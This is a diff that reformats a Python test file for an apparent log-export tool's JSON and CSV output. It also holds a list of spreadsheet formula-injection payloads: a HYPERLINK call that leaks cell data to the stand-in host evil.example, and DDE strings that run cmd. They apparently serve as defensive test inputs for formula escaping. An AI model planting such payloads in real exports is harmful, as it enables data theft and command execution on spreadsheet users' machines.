@@ -23,9 +23,16 @@ from auditviewer.data.timestamps import get_zone
 from tests.helpers.dbfactory import DbFactory
 from tests.unit.logrows import api_row, panel_row
 
-ROWS = [panel_row(i, method=("GET", "POST")[i % 2], api_method_status=(None, "ok", "")[i % 3],
-                  user_agent=None if i % 4 else "Mozilla/5.0 (X11; Linux x86_64)", business_unit_id=i % 2 or None)
-        for i in range(1, 31)]
+ROWS = [
+    panel_row(
+        i,
+        method=("GET", "POST")[i % 2],
+        api_method_status=(None, "ok", "")[i % 3],
+        user_agent=None if i % 4 else "Mozilla/5.0 (X11; Linux x86_64)",
+        business_unit_id=i % 2 or None,
+    )
+    for i in range(1, 31)
+]
 
 
 @pytest.fixture
@@ -62,8 +69,14 @@ def test_json_lines_are_the_rows_of_the_query(panel: LogTable) -> None:
     query = LogQuery(panel, sort=Sort("id", False), columns=["id", "date", "api_method_status", "business_unit_id"])
     lines = to_text(query, "json").splitlines()
     assert [json.loads(line) for line in lines] == [
-        {"id": r["id"], "date": _as_json_value(r["date"]), "api_method_status": r["api_method_status"],
-         "business_unit_id": r["business_unit_id"]} for r in ROWS]
+        {
+            "id": r["id"],
+            "date": _as_json_value(r["date"]),
+            "api_method_status": r["api_method_status"],
+            "business_unit_id": r["business_unit_id"],
+        }
+        for r in ROWS
+    ]
     assert [json.loads(line)["api_method_status"] for line in lines[:3]] == ["ok", "", None]  # NULL is null
 
 
@@ -133,14 +146,20 @@ def test_failed_export_leaves_nothing_behind(sqlite_db: DbFactory, tmp_path: Pat
 
     out_dir = tmp_path / "out"
     out_dir.mkdir()
-    with open_source(sqlite_db.create({"panel": ROWS})) as source:
-        with pytest.raises(OSError, match="disk full"):
-            export(LogQuery(source.log("panel")), "csv", out_dir / "out.csv", progress=progress)
+    with open_source(sqlite_db.create({"panel": ROWS})) as source, pytest.raises(OSError, match="disk full"):
+        export(LogQuery(source.log("panel")), "csv", out_dir / "out.csv", progress=progress)
     assert os.listdir(out_dir) == []
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-1",
+]
 PLAIN = ["/v2/api/item/1", "a=b", " =not at the start", "", "'already quoted"]
 
 
